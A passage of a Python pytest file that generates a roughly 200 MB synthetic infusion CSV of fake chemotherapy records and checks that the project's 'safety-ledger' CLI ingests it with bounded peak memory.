                  "seconds": time.monotonic() - t,
                  "maxrss_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def write_big_infusions(folder: Path, target_bytes: int) -> tuple[int, int, str]:
    """Valid rows streamed to disk until the file reaches target_bytes; (rows, bytes, sha256).

    The refs are long (an 884-character infusion_ref; the contract sets no limit), so each
    row is 1 KiB and 200 MB is ~205,000 rows: ingestion costs per row as much as per byte,
    and 200 MB of ordinary 160-byte rows (1.3 M rows) would take several minutes. Memory is
    bounded per chunk of rows, so wide rows are the harder case for it, not the easier."""
    folder.mkdir(parents=True)
    h, n, size = hashlib.sha256(), 0, 0
    pad = "-" + "0123456789abcdef" * 54 + "01234567"  # 873 characters
    with open(folder / "infusions.csv", "wb") as f:
        head = (",".join(INFUSION_COLUMNS) + "\r\n").encode()
        f.write(head)
        h.update(head)
        size += len(head)
        while size < target_bytes:
            block = "".join(
                f"INF{i:08d}{pad},MRN-{i // 6:07d},{i % 6 + 1},2025-03-22T09:40:00+08:00,375.5,60,standard,"
                f"paclitaxel;carboplatin,dexamethasone;diphenhydramine,true,2025-03-22T18:00:00+08:00\r\n"
                for i in range(n, n + 5000)).encode()
            f.write(block)
            h.update(block)
            size += len(block)
            n += 5000
    return n, size, h.hexdigest()


@pytest.mark.slow
def test_200mb_infusions_are_ingested_in_bounded_memory(tmp_path):
    home = Home(tmp_path / "home")
    folder = home.landing / "SITE-BIG" / "big-001"
    t0 = time.monotonic()
    n, size, digest = write_big_infusions(folder, BIG_BYTES)
    (folder / contract.MANIFEST).write_text(json.dumps({
        "schema_version": 1, "site_id": "SITE-BIG", "submission_id": "big-001", "exported_at": EXPORTED,
        "files": {"infusions.csv": {"sha256": digest, "rows": n}}}))
    generated = time.monotonic() - t0
    cli = Path(sys.executable).with_name("safety-ledger")  # what `uv run safety-ledger` runs
    command = [str(cli)] if cli.exists() else ["uv", "run", "safety-ledger"]
    env = dict(os.environ, GX_ANALYTICS_ENABLED="false")
    out = subprocess.run([sys.executable, "-c", _RUSAGE_WRAPPER, *command, "--home", str(home.root), "ingest"],
                         capture_output=True, text=True, env=env, check=True)
    result = json.loads(out.stdout)
    peak = result["maxrss_kb"] * 1024
    summary = (f"{size / 1e6:.0f} MB, {n} rows: generated in {generated:.1f} s, ingested in "
               f"{result['seconds']:.1f} s, peak RSS {peak / 2**20:.0f} MiB (limit {RSS_LIMIT_BYTES / 2**20:.0f} MiB)")
    print(summary)
    assert result["rc"] == 0, result["stderr"]
    assert f"accepted  SITE-BIG/big-001: {n} rows = {n} events + 0 duplicates + 0 quarantined" in result["stdout"], \
        result["stdout"][-2000:]
    assert peak < RSS_LIMIT_BYTES, summary
